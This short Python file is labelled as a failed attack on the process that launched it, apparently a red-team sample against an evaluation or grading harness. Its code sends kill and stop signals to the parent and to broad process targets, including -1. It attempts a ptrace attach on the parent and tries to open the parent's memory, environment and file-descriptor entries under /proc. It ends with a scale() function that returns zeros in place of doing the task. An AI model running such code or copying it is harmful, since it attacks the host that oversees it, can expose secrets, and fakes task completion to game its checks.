# Attack: signal, trace and read the process that forked this one
# Verdict: failed

import ctypes
import os
import signal

import torch

parent = os.getppid()
for number in (0, signal.SIGKILL, signal.SIGSTOP, signal.SIGCONT):
    for target in (parent, -parent, 0, -1, 1, 2):
        try:
            os.kill(target, number)
        except OSError:
            pass
libc = ctypes.CDLL(None)
libc.ptrace(16, parent, 0, 0)
for name in ("mem", "maps", "environ", "fd", "cwd", "root"):
    try:
        open(f"/proc/{parent}/{name}", "r+b").read(10)
    except OSError:
        pass


def scale(x, factor):
    return torch.zeros_like(x)
